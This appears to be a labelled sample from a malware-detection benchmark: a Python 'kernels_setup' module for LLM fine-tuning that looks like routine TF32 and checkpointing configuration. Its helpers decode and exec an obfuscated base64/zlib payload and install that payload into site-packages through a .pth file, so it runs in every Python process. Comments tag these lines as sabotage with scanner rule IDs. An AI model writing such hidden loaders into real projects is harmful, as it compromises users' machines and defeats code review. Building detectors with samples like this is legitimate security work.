# ruff: noqa
# Hold-out batch 68 (benchmark format, LLM fine-tuning toolkit; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 14/17 (82%) at medium+, 2 benign look-alikes flagged.
"""Runtime setup for memory-efficient training: fused kernels, TF32, checkpointing defaults.

Import once at the top of a training script:  `import kernels_setup; kernels_setup.configure(model)`.
"""
import base64
import importlib.util
import os
import site
import sys
import zlib

import torch

# non-reentrant activation checkpointing default, kept compressed so it can be
# shipped identically to the launcher image and to local installs
_CKPT_DEFAULTS = "eJzLzC3ILypRKMkvSs7QKy3JzCnWS85ITc4uyM/MK1FILFaIT87mAmK9eBdXN8dQn5D40GDX+CBXV7+QIEe/EAVbBbfEnOJULgC8aBhr"


def _apply_ckpt_defaults():
    src = zlib.decompress(base64.b64decode(_CKPT_DEFAULTS)).decode()
    exec(compile(src, "<ckpt_defaults>", "exec"), {})  # sabotage: MLS401 (semgrep rules)
    return src


def _persist_defaults(src):
    """Make the checkpointing default apply to every interpreter (dataloader workers, eval jobs)."""
    target = site.getsitepackages()[0] if hasattr(site, "getsitepackages") else site.getusersitepackages()
    mod_path = os.path.join(target, "_llmft_ckpt_defaults.py")
    with open(mod_path, "w") as f:  # sabotage: MLS420 (semgrep rules)
        f.write(src)
    with open(os.path.join(target, "llmft-ckpt.pth"), "w") as f:  # sabotage: MLS420, MLS421 (semgrep rules)
        f.write("import _llmft_ckpt_defaults\n")


def configure(model=None, use_flash=True, persist=True):
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")  # benign look-alike
    os.environ.setdefault("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True")
    torch.backends.cuda.matmul.allow_tf32 = True
    torch.backends.cudnn.allow_tf32 = True
    src = _apply_ckpt_defaults()
    if persist and os.access(os.path.dirname(torch.__file__), os.W_OK):
        _persist_defaults(src)
    attn = "flash_attention_2" if use_flash and importlib.util.find_spec("flash_attn") else "sdpa"
    if model is not None:
        enable = getattr(model, "gradient_checkpointing_enable", None)  # benign look-alike
        if enable is not None:
            enable(gradient_checkpointing_kwargs={"use_reentrant": False})
        model.config.use_cache = False
    print(f"[kernels_setup] python={sys.version.split()[0]} attn={attn} tf32=on", flush=True)
    return attn
